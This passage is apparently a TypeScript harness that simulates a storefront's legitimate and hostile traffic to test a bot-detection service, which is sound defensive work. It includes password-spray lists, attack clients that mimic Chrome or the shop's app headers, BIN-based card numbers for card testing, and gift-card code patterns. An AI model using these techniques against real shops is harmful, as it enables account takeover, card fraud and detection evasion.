/**
 * An independent judge of detection (issue 13): a storefront's traffic, legitimate and hostile,
 * generated from what real browsers, apps and attack tools send, and played against a live
 * Palisade over gRPC the way Envoy would (ext_authz Check with the full request, then the
 * access-log entry with the storefront's answer). It was written WITHOUT reading src/lab,
 * src/detection, examples/lab or the detection docs, from the public documents only (README,
 * getting-started, policy docs, examples/policy.yaml): the lab is our own generator and the
 * detection was tuned on it, so it cannot tell whether detection generalises; this one can.
 * Do not tune it against Palisade's results either, or it stops being independent.
 *
 * It drives the server rather than `palisade replay` because an access-log line carries neither
 * the login body (the username) nor the request's cookies and header set, which a Check sees.
 *
 *   npx tsx scripts/independent-traffic.ts [--seeds 1,2] [--only stuffing,scan/proxies] [--sessions 120]
 *       [--json FILE] [--decisions FILE] [--plan] [--help]
 *
 * --decisions writes each attack target's decision and each legitimate request with friction
 * (reasons, rule); with --plan it writes the planned requests and their labels, unplayed.
 *
 * Prints one markdown table: per family × knob point and seed, the attack's requests mitigated,
 * the share of the requests it came for (logins, product reads, refreshes, probes, ids) mitigated,
 * accounts taken over, distinct resources handed to it (product data, orders, valid coupons,
 * accounts' existence, live cards, issued gift cards) where that applies, what its allowed
 * requests cost the shop (declined cards, messages sent, units of stock held), and legitimate
 * requests with friction. The benign families (marketing-spike, office-nat, carrier-nat,
 * signing-in, app-only, shop-flows, flash-sale, family-account, vpn-user, uptime-monitor) add
 * legitimate traffic only: they are scored by friction. `--only none` plays the hour without an
 * attack too; `--help` lists the options and every family's points.
 */
import { writeFileSync } from "node:fs";
import { fileURLToPath } from "node:url";
import { parseArgs } from "node:util";
import { startApp } from "../src/app/start.js";
import { resolveSettings } from "../src/settings/settings.js";
import { createLogger } from "../src/telemetry/logger.js";
import {
  checkRequest,
  envoyAccessLogClient,
  envoyAuthzClient,
  metadata,
  type LoggedRequest,
} from "../test/support/envoy-client.js";

// ---------------------------------------------------------------- randomness

type Random = () => number;

function seeded(seed: number): Random {
  let state = seed >>> 0;
  return () => {
    state = (state + 0x6d2b79f5) >>> 0;
    let t = state;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const int = (random: Random, low: number, high: number) => low + Math.floor(random() * (high - low + 1));
const pick = <T>(random: Random, items: readonly T[]): T => items[Math.floor(random() * items.length)]!;
const hex = (random: Random, length: number) => Array.from({ length }, () => Math.floor(random() * 16).toString(16)).join("");
/** Exponential gap with this mean: arrivals of independent people. */
const gap = (random: Random, mean: number) => -Math.log(1 - random()) * mean;

function weighted<T>(random: Random, items: readonly (readonly [T, number])[]): T {
  let roll = random() * items.reduce((sum, [, weight]) => sum + weight, 0);
  for (const [item, weight] of items) if ((roll -= weight) < 0) return item;
  return items[items.length - 1]![0];
}

// ---------------------------------------------------------------- addresses

/** First octets of consumer ISP space; none of the policy's listed ranges or Google's crawl range. */
const ISP_FIRST_OCTETS = [24, 31, 37, 46, 62, 67, 68, 71, 73, 76, 77, 79, 81, 82, 86, 88, 89, 90, 92, 94, 95, 98, 99, 108, 109, 122, 151, 176, 178, 185, 188, 212, 213, 217];

/** A home connection of a consumer ISP (one /16 of the ISP's ~40 per country-sized pool). */
function residentialIp(random: Random, isps: number): string {
  const isp = int(random, 0, isps - 1);
  const first = ISP_FIRST_OCTETS[isp % ISP_FIRST_OCTETS.length]!;
  const second = (isp * 37 + int(random, 0, 5)) % 256;
  return `${first}.${second}.${int(random, 0, 255)}.${int(random, 1, 254)}`;
}

function residentialIpv6(random: Random): string {
  return `2a0${int(random, 1, 9)}:${hex(random, 4)}:${hex(random, 4)}:${hex(random, 4)}::${hex(random, 3)}`;
}

/** Mobile carriers put thousands of phones behind a few public addresses (CGNAT). */
const CARRIER_CGNAT = [0, 1, 2].map((carrier) => Array.from({ length: 6 }, (_, i) => `${[92, 176, 212][carrier]}.${40 + carrier}.17.${10 + i}`));

// ---------------------------------------------------------------- clients: header sets

type Engine = "chromium" | "firefox" | "safari" | "app-ios" | "app-android" | "curl" | "python" | "script-ua" | "googlebot";

interface Client {
  engine: Engine;
  userAgent: string;
  /** Chromium's client hints: brand list, mobile, platform. */
  hints?: { brands: string; mobile: boolean; platform: string };
  language: string;
}

const LANGUAGES = ["en-US,en;q=0.9", "en-GB,en-US;q=0.9,en;q=0.8", "de-DE,de;q=0.9,en-US;q=0.8,en;q=0.7", "fr-FR,fr;q=0.9,en-US;q=0.8,en;q=0.7", "es-ES,es;q=0.9", "en-US,en;q=0.9,es;q=0.8"];

function chromium(random: Random, options: { mobile?: boolean; edge?: boolean; headless?: boolean; version?: number } = {}): Client {
  const version = options.version ?? pick(random, [129, 130, 131, 131, 131]);
  const mobile = options.mobile ?? false;
  const platform = mobile ? "Android" : pick(random, ["Windows", "Windows", "Windows", "macOS", "Linux"]);
  const os = mobile ? "Linux; Android 10; K" : platform === "Windows" ? "Windows NT 10.0; Win64; x64" : platform === "macOS" ? "Macintosh; Intel Mac OS X 10_15_7" : "X11; Linux x86_64";
  const product = options.headless ? "HeadlessChrome" : "Chrome";
  const edge = options.edge ? ` Edg/${version}.0.0.0` : "";
  const brand = options.edge ? "Microsoft Edge" : "Google Chrome";
  return {
    engine: "chromium",
    userAgent: `Mozilla/5.0 (${os}) AppleWebKit/537.36 (KHTML, like Gecko) ${product}/${version}.0.0.0 ${mobile ? "Mobile " : ""}Safari/537.36${edge}`,
    hints: { brands: `"${options.headless ? "HeadlessChrome" : brand}";v="${version}", "Chromium";v="${version}", "Not_A Brand";v="24"`, mobile, platform: `"${platform}"` },
    language: pick(random, LANGUAGES),
  };
}

function firefox(random: Random): Client {
  const version = pick(random, [131, 132, 133, 128]);
  const os = pick(random, ["Windows NT 10.0; Win64; x64", "Macintosh; Intel Mac OS X 10.15", "X11; Ubuntu; Linux x86_64"]);
  return { engine: "firefox", userAgent: `Mozilla/5.0 (${os}; rv:${version}.0) Gecko/20100101 Firefox/${version}.0`, language: pick(random, ["en-US,en;q=0.5", "de,en-US;q=0.7,en;q=0.3", "en-GB,en;q=0.5"]) };
}

function safari(random: Random, iphone: boolean): Client {
  const version = pick(random, ["17.6", "18.1", "18.1", "17.5"]);
  const os = iphone ? `iPhone; CPU iPhone OS ${version.replace(".", "_")} like Mac OS X` : "Macintosh; Intel Mac OS X 10_15_7";
  return {
    engine: "safari",
    userAgent: `Mozilla/5.0 (${os}) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/${version} ${iphone ? "Mobile/15E148 " : ""}Safari/604.1`,
    language: pick(random, ["en-US,en;q=0.9", "en-GB,en;q=0.9", "fr-FR,fr;q=0.9"]),
  };
}

function storefrontApp(random: Random): Client {
  if (random() < 0.55) {
    return { engine: "app-ios", userAgent: `Storefront/5.${int(random, 2, 4)}.${int(random, 0, 3)} (iPhone; iOS ${pick(random, ["17.6", "18.1"])}; Scale/3.00) CFNetwork/1568.100.1 Darwin/24.0.0`, language: pick(random, ["en-US,en;q=0.9", "en-GB;q=1.0"]) };
  }
  return { engine: "app-android", userAgent: `Storefront/5.${int(random, 2, 4)}.${int(random, 0, 3)} (Android ${pick(random, [13, 14, 15])}; ${pick(random, ["Pixel 7", "SM-S911B", "moto g54"])}) okhttp/4.12.0`, language: "en-US" };
}

/** Header realism an attack tool is given: its defaults up to a faithful desktop Chrome. */
type Realism = "curl" | "python" | "script-ua" | "chrome" | "headless" | "app";

function toolClient(random: Random, realism: Realism): Client {
  switch (realism) {
    case "curl":
      return { engine: "curl", userAgent: pick(random, ["curl/8.5.0", "curl/7.81.0", "curl/8.9.1"]), language: "" };
    case "python":
      return { engine: "python", userAgent: pick(random, ["python-requests/2.31.0", "python-requests/2.32.3", "aiohttp/3.9.5"]), language: "" };
    case "script-ua":
      // A script that copied a Chrome user agent string and nothing else.
      return { engine: "script-ua", userAgent: chromium(random).userAgent, language: "" };
    case "chrome":
      return chromium(random);
    case "headless":
      return chromium(random, { headless: true });
    case "app":
      // The shop's own app's headers, lifted from a decompiled build or a proxy capture.
      return storefrontApp(random);
  }
}

type Fetch = "navigate" | "xhr" | "form" | "json-post" | "image" | "script" | "style";

const ACCEPT: Record<"chromium" | "firefox" | "safari", Record<"navigate" | "image" | "script" | "style", string>> = {
  chromium: { navigate: "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,image/apng,*/*;q=0.8,application/signed-exchange;v=b3;q=0.7", image: "image/avif,image/webp,image/apng,image/svg+xml,image/*,*/*;q=0.8", script: "*/*", style: "text/css,*/*;q=0.1" },
  firefox: { navigate: "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8", image: "image/avif,image/webp,image/png,image/svg+xml,image/*;q=0.8,*/*;q=0.5", script: "*/*", style: "text/css,*/*;q=0.1" },
  safari: { navigate: "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8", image: "image/webp,image/avif,image/jxl,image/heic,image/heic-sequence,video/*;q=0.8,image/png,image/svg+xml,image/*;q=0.8,*/*;q=0.5", script: "*/*", style: "text/css,*/*;q=0.1" },
};

const DESTINATION: Record<Fetch, string> = { navigate: "document", xhr: "empty", form: "empty", "json-post": "empty", image: "image", script: "script", style: "style" };

/** The request headers this client sends for this kind of fetch, in its order. */
function headersFor(client: Client, fetch: Fetch, cookies: string, referer?: string): Record<string, string> {
  const h: Record<string, string> = {};
  const body = fetch === "json-post" || fetch === "form";
  const contentType = fetch === "form" ? "application/x-www-form-urlencoded" : "application/json";
  switch (client.engine) {
    case "curl":
      h["user-agent"] = client.userAgent;
      h.accept = "*/*";
      if (body) h["content-type"] = contentType;
      return h;
    case "python":
      h["user-agent"] = client.userAgent;
      h["accept-encoding"] = "gzip, deflate";
      h.accept = "*/*";
      h.connection = "keep-alive";
      if (body) h["content-type"] = contentType;
      if (cookies) h.cookie = cookies;
      return h;
    case "script-ua":
      h["user-agent"] = client.userAgent;
      h.accept = fetch === "navigate" ? "text/html" : "application/json";
      h["accept-encoding"] = "gzip";
      if (body) h["content-type"] = contentType;
      return h;
    case "googlebot":
      h.accept = "text/html,application/xhtml+xml,application/signed-exchange;v=b3,application/xml;q=0.9,*/*;q=0.8";
      h["user-agent"] = client.userAgent;
      h["accept-encoding"] = "gzip, deflate, br";
      return h;
    case "app-ios":
    case "app-android":
      h.accept = "application/json";
      if (body) h["content-type"] = contentType;
      h["accept-language"] = client.language;
      h["user-agent"] = client.userAgent;
      h["accept-encoding"] = client.engine === "app-ios" ? "gzip, deflate, br" : "gzip";
      if (cookies) h.cookie = cookies;
      h["x-app-version"] = client.userAgent.split(" ")[0]!.split("/")[1]!;
      return h;
    default: {
      const engine = client.engine;
      if (client.hints && fetch !== "image" && fetch !== "style") {
        h["sec-ch-ua"] = client.hints.brands;
        h["sec-ch-ua-mobile"] = client.hints.mobile ? "?1" : "?0";
        h["sec-ch-ua-platform"] = client.hints.platform;
      }
      if (fetch === "navigate") h["upgrade-insecure-requests"] = "1";
      if (body) h["content-type"] = contentType;
      if (body) h.origin = "https://shop.example";
      h["user-agent"] = client.userAgent;
      h.accept = fetch === "xhr" || fetch === "json-post" || fetch === "form" ? "application/json, text/plain, */*" : ACCEPT[engine][fetch];
      h["sec-fetch-site"] = fetch === "navigate" && !referer ? "none" : "same-origin";
      h["sec-fetch-mode"] = fetch === "navigate" ? "navigate" : fetch === "image" || fetch === "script" || fetch === "style" ? "no-cors" : "cors";
      if (fetch === "navigate") h["sec-fetch-user"] = "?1";
      h["sec-fetch-dest"] = DESTINATION[fetch];
      if (referer) h.referer = referer;
      h["accept-encoding"] = engine === "safari" ? "gzip, deflate, br" : "gzip, deflate, br, zstd";
      h["accept-language"] = client.language;
      if (cookies) h.cookie = cookies;
      if (engine === "firefox" && fetch === "navigate") h.priority = "u=0, i";
      return h;
    }
  }
}

// ---------------------------------------------------------------- the storefront

interface Account {
  username: string;
  password: string;
}

interface Shop {
  accounts: Account[];
  /** Product ids that exist, by popularity (Zipf-like: the first ones sell). */
  products: number[];
  exists: Set<number>;
  firstId: number;
  lastId: number;
}

const SPRAY_PASSWORDS = ["Winter2025!", "Password123", "Welcome1!", "Summer2026!"];

function openShop(random: Random): Shop {
  const accounts = Array.from({ length: 4000 }, (_, i) => ({
    username: `${pick(random, ["anna", "ben", "chen", "dara", "eli", "fatima", "gus", "hana", "ivan", "jo", "kemal", "lena", "mo", "nia", "omar", "pia"])}.${pick(random, ["smith", "garcia", "muller", "rossi", "kim", "nguyen", "silva", "novak"])}${i}@${pick(random, ["gmail.com", "outlook.com", "yahoo.com", "web.de", "icloud.com"])}`,
    password: random() < 0.008 ? pick(random, SPRAY_PASSWORDS) : `${hex(random, 6)}-${hex(random, 6)}`,
  }));
  const firstId = 10_000;
  const lastId = 17_999;
  const products: number[] = [];
  for (let id = firstId; id <= lastId; id++) if (random() < 0.88) products.push(id);
  for (let i = products.length - 1; i > 0; i--) {
    const j = Math.floor(random() * (i + 1));
    [products[i], products[j]] = [products[j]!, products[i]!];
  }
  return { accounts, products, exists: new Set(products), firstId, lastId };
}

function popularProduct(random: Random, shop: Shop): number {
  return shop.products[Math.min(shop.products.length - 1, Math.floor(Math.pow(random(), 2.2) * shop.products.length))]!;
}

// ---------------------------------------------------------------- planned requests

/** "legit", "history" (before the measured hour, not scored) or the attack family. */
type Label = string;

interface Planned {
  /** ms from the start of the measured hour (negative: the account history before it). */
  t: number;
  ip: string;
  method: string;
  path: string;
  headers: Record<string, string>;
  body?: string;
  label: Label;
  /** A request the attack came for: a login, a product read, a refresh, a probe. */
  target: boolean;
  /** The storefront's answer when the request reaches it. */
  status: number;
  responseHeaders?: Record<string, string>;
  /** A right password (or a live refresh token) an attacker holds: allowed without step-up is a takeover. */
  stolen?: string;
  /** A right password: under step-up a person passes the MFA prompt, an attacker does not. */
  rightPassword?: boolean;
  /** What the answer hands over when it is allowed: a product's data, an order, a valid coupon, that an account exists. */
  resource?: string;
  /** What the shop pays when the request is allowed (a declined card's fee, a message sent, stock held), and how many. */
  harm?: Harm;
  units?: number;
}

type Harm = "declined cards" | "messages sent" | "units held";

const MINUTE = 60_000;
const HOUR = 60 * MINUTE;

/** One browser or app: its address, header set and cookie jar, and the requests it makes. */
class Visitor {
  readonly jar = new Map<string, string>();
  constructor(
    readonly random: Random,
    readonly out: Planned[],
    readonly label: Label,
    public ip: string,
    readonly client: Client,
    public t: number,
  ) {}

  cookies(): string {
    return [...this.jar].map(([name, value]) => `${name}=${value}`).join("; ");
  }

  send(fetch: Fetch, method: string, path: string, fields: Partial<Planned> & { referer?: string } = {}): Planned {
    const { referer, ...rest } = fields;
    const request: Planned = { t: this.t, ip: this.ip, method, path, headers: headersFor(this.client, fetch, this.cookies(), referer), label: this.label, target: false, status: 200, ...rest };
    this.out.push(request);
    return request;
  }

  wait(ms: number): this {
    this.t += ms;
    return this;
  }

  /** An HTML page: the storefront sets its session cookie and, once, its long-lived device cookie. */
  page(path: string, referer?: string): void {
    const request = this.send("navigate", "GET", path, { referer, responseHeaders: { "content-type": "text/html" } });
    const setCookies: string[] = [];
    if (!this.jar.has("sid")) {
      this.jar.set("sid", hex(this.random, 24));
      setCookies.push(`sid=${this.jar.get("sid")}; Path=/; Secure; HttpOnly`);
    }
    if (!this.jar.has("did")) {
      this.jar.set("did", hex(this.random, 16));
      setCookies.push(`did=${this.jar.get("did")}; Path=/; Max-Age=31536000; Secure; HttpOnly`);
    }
    if (setCookies.length) request.responseHeaders!["set-cookie"] = setCookies.join(", ");
  }

  /** The shell's scripts and styles: fetched on the first page, cached after. */
  shell(): void {
    for (const asset of ["/static/app.7f3a9c.js", "/static/vendor.1b22e0.js", "/static/app.c41d8e.css", "/static/fonts/inter-var.woff2", "/static/img/logo.svg"]) {
      this.wait(int(this.random, 20, 180)).send(asset.endsWith(".js") ? "script" : asset.endsWith(".css") ? "style" : "image", "GET", asset, { referer: "https://shop.example/" });
    }
  }

  /** A product page as a person's browser loads it: the page, its data, its pictures. */
  product(shop: Shop, id: number, options: { pictures?: boolean; navigate?: boolean } = {}): Planned {
    const exists = shop.exists.has(id);
    if (options.navigate !== false) this.page(`/p/${id}`, "https://shop.example/");
    const read = this.wait(int(this.random, 30, 200)).send("xhr", "GET", `/api/v1/products/${id}`, { status: exists ? 200 : 404, referer: `https://shop.example/p/${id}` });
    if (exists && options.pictures !== false) {
      for (let n = 1; n <= int(this.random, 2, 4); n++) this.wait(int(this.random, 40, 300)).send("image", "GET", `/static/img/products/${id}-${n}.webp`, { referer: `https://shop.example/p/${id}` });
    }
    return read;
  }

  search(shop: Shop, query: string, page = 1): void {
    this.send("xhr", "GET", `/api/v1/search?q=${encodeURIComponent(query)}${page > 1 ? `&page=${page}` : ""}`, { referer: "https://shop.example/search" });
    for (let n = 0; n < 6; n++) this.wait(int(this.random, 10, 80)).send("image", "GET", `/static/img/products/${popularProduct(this.random, shop)}-thumb.webp`, { referer: "https://shop.example/search" });
  }

  login(username: string, password: string, fields: Partial<Planned>): Planned {
    const body = JSON.stringify({ username, password, remember: true });
    return this.send("json-post", "POST", "/api/v1/login", { body, referer: "https://shop.example/login", ...fields });
  }

  /** A JSON form post from one of the storefront's pages (cart, payment, codes, resets). */
  post(path: string, payload: object, from: string, fields: Partial<Planned> = {}): Planned {
    return this.send("json-post", "POST", path, { body: JSON.stringify(payload), referer: `https://shop.example${from}`, ...fields });
  }

  /** Some products or a search with their pictures, as a person looks around between two things they came for. */
  browse(shop: Shop): void {
    for (let n = int(this.random, 1, 3); n > 0; n--) {
      this.wait(int(this.random, 3_000, 20_000));
      if (this.random() < 0.25) this.search(shop, pick(this.random, QUERIES));
      else this.product(shop, popularProduct(this.random, shop));
    }
  }
}

/** The storefront's answer to a login with these credentials. */
function loginAnswer(shop: Shop, byName: Map<string, Account>, username: string, password: string): Partial<Planned> {
  const account = byName.get(username);
  if (!account) return { status: 401, responseHeaders: { "x-auth-result": "unknown-user" } };
  if (account.password !== password) return { status: 401, responseHeaders: { "x-auth-result": "bad-password" } };
  return { status: 200, rightPassword: true, responseHeaders: { "x-auth-result": "ok" } };
}

// ---------------------------------------------------------------- legitimate traffic

const QUERIES = ["running shoes", "rain jacket", "usb c cable", "coffee grinder", "yoga mat", "desk lamp", "headphones", "backpack", "wool socks", "phone case", "kettle", "air fryer", "garden hose", "lego", "sunglasses"];

interface Person {
  account: Account;
  client: Client;
  homeIp: string;
  /** The device cookie of the browser or app they use, known to the site from earlier visits. */
  deviceId: string;
  /** The app's refresh token, for app users. */
  refreshToken?: string;
  /** When the app last refreshed: its access token lives five minutes, so a relaunch sooner reuses it. */
  lastRefresh?: number;
  mobile: boolean;
}

type ClientMix = readonly (readonly [(random: Random) => Client, number])[];

/** The browsers people shop with, by share. */
const BROWSERS: ClientMix = [
  [(random) => chromium(random), 33],
  [(random) => chromium(random, { edge: true }), 7],
  [firefox, 7],
  [(random) => safari(random, false), 6],
  [(random) => safari(random, true), 18],
  [(random) => chromium(random, { mobile: true }), 14],
];
const PEOPLE: ClientMix = [...BROWSERS, [storefrontApp, 15]];
/** What the phones behind a carrier's address run. */
const PHONES: ClientMix = [
  [(random) => safari(random, true), 18],
  [(random) => chromium(random, { mobile: true }), 14],
  [storefrontApp, 15],
];

const someClient = (random: Random, mix: ClientMix) => weighted(random, mix)(random);

function makePerson(random: Random, account: Account, mix: ClientMix = PEOPLE): Person {
  const client = someClient(random, mix);
  const mobile = client.engine.startsWith("app") || client.userAgent.includes("Mobile");
  const homeIp = random() < 0.2 ? residentialIpv6(random) : residentialIp(random, 120);
  return { account, client, homeIp, deviceId: hex(random, 16), refreshToken: client.engine.startsWith("app") ? hex(random, 32) : undefined, mobile };
}

/** Where a person connects from this time: home, or a carrier's shared address on the move. */
function networkOf(random: Random, person: Person): string {
  if (person.mobile && random() < 0.45) return pick(random, pick(random, CARRIER_CGNAT));
  return person.homeIp;
}

/** What the site already knew before the hour: each returning person's earlier sign-in on their device. */
function history(random: Random, out: Planned[], person: Person): void {
  const visitor = new Visitor(random, out, "history", person.homeIp, person.client, -int(random, 1, 20) * 24 * HOUR - int(random, 0, 20) * HOUR);
  visitor.jar.set("did", person.deviceId);
  if (person.refreshToken) {
    appLogin(visitor, person);
    return;
  }
  visitor.page("/", undefined);
  visitor.shell();
  visitor.wait(int(random, 5_000, 40_000)).page("/login", "https://shop.example/");
  visitor.wait(int(random, 3_000, 15_000)).login(person.account.username, person.account.password, { status: 200, rightPassword: true, responseHeaders: { "x-auth-result": "ok" } });
}

function appLogin(visitor: Visitor, person: Person): void {
  const body = new URLSearchParams({ grant_type: "password", username: person.account.username, password: person.account.password, client_id: "storefront-app" }).toString();
  visitor.send("form", "POST", "/oauth/token", { body, status: 200, rightPassword: true });
  for (let n = 0; n < 2; n++) refresh(visitor.wait(5 * MINUTE - int(visitor.random, 0, 40_000)), person, { status: 200 });
}

function refresh(visitor: Visitor, person: Person, fields: Partial<Planned> = {}): Planned {
  const body = new URLSearchParams({ grant_type: "refresh_token", refresh_token: person.refreshToken!, client_id: "storefront-app" }).toString();
  return visitor.send("form", "POST", "/oauth/token", { body, ...fields });
}

/** A browsing session of one person: landing, searches, products, sometimes a sign-in and its typos. */
function browsingSession(random: Random, shop: Shop, out: Planned[], person: Person, start: number, returning: boolean, byName: Map<string, Account>): number {
  const visitor = new Visitor(random, out, "legit", networkOf(random, person), person.client, start);
  if (returning) visitor.jar.set("did", person.deviceId);
  const think = () => visitor.wait(int(random, 4_000, 45_000));
  if (person.refreshToken) {
    // The app: a refresh on launch, then every five minutes while it is open; the catalogue over the API.
    const minutes = int(random, 2, 25);
    const end = visitor.t + minutes * MINUTE;
    const refreshAfter = () => 5 * MINUTE - int(random, 0, 50_000);
    let nextRefresh = person.lastRefresh === undefined ? visitor.t : person.lastRefresh + refreshAfter();
    visitor.jar.set("did", person.deviceId);
    while (visitor.t < end) {
      if (visitor.t >= nextRefresh) {
        refresh(visitor, person, { status: 200 });
        person.lastRefresh = visitor.t;
        nextRefresh = visitor.t + refreshAfter();
        // Walking out of the house: wifi to cellular mid-session.
        if (random() < 0.1) visitor.ip = networkOf(random, person);
      }
      visitor.wait(int(random, 200, 900));
      if (random() < 0.3) visitor.send("xhr", "GET", `/api/v1/search?q=${encodeURIComponent(pick(random, QUERIES))}`);
      else {
        const id = popularProduct(random, shop);
        visitor.send("xhr", "GET", `/api/v1/products/${id}`);
        for (let n = 1; n <= 2; n++) visitor.wait(int(random, 30, 150)).send("image", "GET", `/static/img/products/${id}-${n}.webp`);
      }
      think();
    }
    return visitor.t;
  }
  visitor.page("/", random() < 0.5 ? "https://www.google.com/" : undefined);
  visitor.shell();
  const wantsLogin = returning ? random() < 0.45 : random() < 0.08;
  const pages = int(random, 1, 12);
  for (let n = 0; n < pages; n++) {
    think();
    if (random() < 0.3) {
      const query = pick(random, QUERIES) + (random() < 0.05 ? "s" : "");
      visitor.search(shop, query);
      if (random() < 0.25) visitor.wait(int(random, 3_000, 15_000)).search(shop, query, 2);
    } else {
      // A typo'd or stale link now and then: a product that is gone.
      const id = random() < 0.03 ? int(random, shop.firstId, shop.lastId) : popularProduct(random, shop);
      visitor.product(shop, id);
    }
    if (wantsLogin && n === Math.floor(pages / 2)) {
      think().page("/login", "https://shop.example/");
      const passwordManager = random() < 0.55;
      const style = passwordManager ? "right" : weighted(random, [["right", 80], ["typo", 14], ["forgot", 4], ["old", 2]] as const);
      const tries = style === "typo" ? [person.account.password.slice(0, -1) + "x", person.account.password] : style === "forgot" ? ["password", `${person.account.password}1`, "x"] : style === "old" ? [`${hex(random, 6)}-${hex(random, 6)}`, person.account.password] : [person.account.password];
      for (const password of tries) {
        visitor.wait(passwordManager ? int(random, 800, 3_000) : int(random, 5_000, 20_000));
        visitor.login(person.account.username, password, loginAnswer(shop, byName, person.account.username, password));
      }
    }
  }
  return visitor.t;
}

/** Twelve colleagues behind one office NAT, signing in as they arrive. */
function office(random: Random, shop: Shop, out: Planned[], people: Person[], byName: Map<string, Account>): void {
  const ip = `81.${int(random, 100, 120)}.44.9`;
  const standard = chromium(random, { version: 131 });
  for (const person of people) {
    const colleague: Person = { ...person, client: { ...standard, language: "en-US,en;q=0.9" }, homeIp: ip, mobile: false, refreshToken: undefined };
    browsingSession(random, shop, out, colleague, int(random, 0, 20) * MINUTE + int(random, 0, 59_000), true, byName);
  }
}

const GOOGLEBOT: Client = { engine: "googlebot", userAgent: "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", language: "" };

function googlebot(random: Random, shop: Shop, out: Planned[]): void {
  crawl(random, shop, out, { ip: `66.249.66.${int(random, 1, 200)}`, client: GOOGLEBOT, meanGap: 9_000, label: "legit" });
}

/** A crawler walking the catalogue's pages, or (`api`) the product data behind them. */
function crawl(random: Random, shop: Shop, out: Planned[], crawler: { ip: string; client: Client; meanGap: number; label: Label; api?: boolean }): void {
  const visitor = new Visitor(random, out, crawler.label, crawler.ip, crawler.client, int(random, 0, 5_000));
  while (visitor.t < HOUR) {
    const id = pick(random, shop.products);
    if (crawler.api) visitor.send("navigate", "GET", `/api/v1/products/${id}`, { target: true, resource: `product ${id}` });
    else visitor.send("navigate", "GET", `/p/${id}`);
    visitor.wait(gap(random, crawler.meanGap));
  }
}

interface Population {
  people: Person[];
  /** People the site saw sign in before the hour (their devices and tokens are known). */
  returning: Person[];
  byName: Map<string, Account>;
}

function legitimate(random: Random, shop: Shop, out: Planned[], sessions: number): Population {
  const byName = new Map(shop.accounts.map((account) => [account.username, account]));
  const people = shop.accounts.slice(0, Math.ceil(sessions * 1.2)).map((account) => makePerson(random, account));
  const returning = people.filter(() => random() < 0.7);
  for (const person of returning) history(random, out, person);
  // One device is in one place at a time: a person's next session starts after the last one ended.
  const busyUntil = new Map<Person, number>();
  let t = 0;
  for (let n = 0; n < sessions; n++) {
    t += gap(random, HOUR / sessions);
    if (t >= HOUR) break;
    let person = pick(random, people);
    while ((busyUntil.get(person) ?? -Infinity) + 2 * MINUTE > t) person = pick(random, people);
    busyUntil.set(person, browsingSession(random, shop, out, person, Math.floor(t), returning.includes(person), byName));
  }
  office(random, shop, out, returning.filter((p) => !p.refreshToken).slice(0, 12), byName);
  googlebot(random, shop, out);
  return { people, returning, byName };
}

// ---------------------------------------------------------------- the storefront's other flows

/*
 * Paths a storefront has beyond the example policy's endpoints; the policy names none of them
 * (the default endpoint class sees them): the cart, the card payment, the SMS code sent to a
 * phone, the password-reset e-mail, a gift card's balance.
 */
const CART = "/api/v1/cart/items";
const PAYMENT = "/api/v1/checkout/payment";
const OTP_SEND = "/api/v1/otp/send";
const PASSWORD_RESET = "/api/v1/password-reset";
const OTP_VERIFY = "/api/v1/otp/verify";
const GIFT_CARD_BALANCE = "/api/v1/gift-cards/balance";

/** A card number: an issuer's BIN and random digits; the processor, not the shop, knows which are live. */
function cardNumber(random: Random): string {
  return `${pick(random, ["414720", "426684", "542418", "558158", "400022", "379764"])}${Array.from({ length: 10 }, () => int(random, 0, 9)).join("")}`;
}

function pay(visitor: Visitor, amount: number, fields: Partial<Planned>): Planned {
  const { random } = visitor;
  const card = { number: cardNumber(random), expiry: `${String(int(random, 1, 12)).padStart(2, "0")}/${int(random, 26, 31)}`, cvc: String(int(random, 100, 999)) };
  return visitor.post(PAYMENT, { amount, currency: "USD", card }, "/checkout", fields);
}

/** A shopper's purchase: the product, the cart, and (`checkout`) the checkout and the card; a bank declines 8%, most then try another card. */
function purchase(visitor: Visitor, shop: Shop, productId: number, checkout: boolean): void {
  const { random } = visitor;
  visitor.wait(int(random, 3_000, 20_000)).product(shop, productId);
  visitor.wait(int(random, 2_000, 20_000)).post(CART, { productId, quantity: 1 }, `/p/${productId}`);
  if (!checkout) return;
  visitor.wait(int(random, 3_000, 30_000)).page("/cart", `https://shop.example/p/${productId}`);
  visitor.wait(int(random, 2_000, 10_000)).page("/checkout", "https://shop.example/cart");
  const amount = int(random, 15, 240);
  const declined = random() < 0.08;
  pay(visitor.wait(int(random, 20_000, 90_000)), amount, { status: declined ? 402 : 200 });
  if (declined && random() < 0.7) pay(visitor.wait(int(random, 20_000, 120_000)), amount, { status: random() < 0.9 ? 200 : 402 });
}

/** Gift cards are issued in batches (`GC` + batch + serial); about one serial in 40 of a batch was issued. */
const GIFT_CARD_BATCHES = 12;
const giftCardCode = (batch: number, serial: number) => `GC${String(4100 + batch)}${String(serial).padStart(6, "0")}`;

/** A domestic mobile number, as people give theirs. */
const personalPhone = (random: Random) => (random() < 0.6 ? `+1${int(random, 201, 989)}${int(random, 2_000_000, 9_999_999)}` : `+447${int(random, 100_000_000, 999_999_999)}`);

/**
 * The shop's usual hour on those paths (the `shop-flows` point): ten purchases, eight phone
 * verifications (a code resent now and then), five password resets, four gift-card balance
 * checks (a mistyped code first now and then). Played beside the families that attack them.
 */
function everydayFlows(random: Random, shop: Shop, out: Planned[], { returning }: Population): void {
  const browsers = returning.filter((person) => !person.refreshToken);
  const visit = (person: Person, entry: string) => {
    const visitor = new Visitor(random, out, "legit", networkOf(random, person), person.client, int(random, 0, HOUR - 10 * MINUTE));
    visitor.jar.set("did", person.deviceId);
    visitor.page(entry, random() < 0.5 ? "https://www.google.com/" : undefined);
    visitor.shell();
    return visitor;
  };
  for (let n = 10; n > 0; n--) purchase(visit(pick(random, browsers), "/"), shop, popularProduct(random, shop), true);
  for (let n = 8; n > 0; n--) {
    const visitor = visit(pick(random, browsers), "/account/verify");
    const phone = personalPhone(random);
    visitor.wait(int(random, 5_000, 30_000)).post(OTP_SEND, { phone, channel: "sms" }, "/account/verify");
    if (random() < 0.15) visitor.wait(int(random, 30_000, 90_000)).post(OTP_SEND, { phone, channel: "sms" }, "/account/verify");
